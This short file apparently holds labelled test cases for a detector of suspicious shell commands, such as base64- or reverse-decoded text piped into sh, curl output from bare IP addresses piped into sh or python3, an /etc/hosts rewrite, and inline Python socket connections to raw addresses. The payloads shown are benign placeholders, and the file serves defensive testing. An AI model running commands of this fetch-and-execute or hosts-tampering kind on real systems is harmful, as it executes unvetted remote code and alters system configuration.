## Code given to an interpreter in base64
sh -c 'echo dHJ1ZQ== | base64 -d | sh'
## Code without a file connects to an address without a name
python3 -c 'import socket; socket.create_connection(("203.0.113.9", 80), 2)'
## Decoded text piped into an interpreter
printf 'eurt' | rev | sh
## Download from an address without a name beside an interpreter
#also Download beside an interpreter
#also Download run without being looked at
#setup echo '203.0.113.9 mirror.example' >> /etc/hosts
curl -s http://mirror.example/x.py | python3 -
## Download beside an interpreter
#also Download run without being looked at
curl -s http://10.9.8.6/x | sh
## Code without a file connects to an unusual port of an address without a name
python3 -c 'import socket; socket.socket().connect_ex(("203.0.113.9", 8531))'
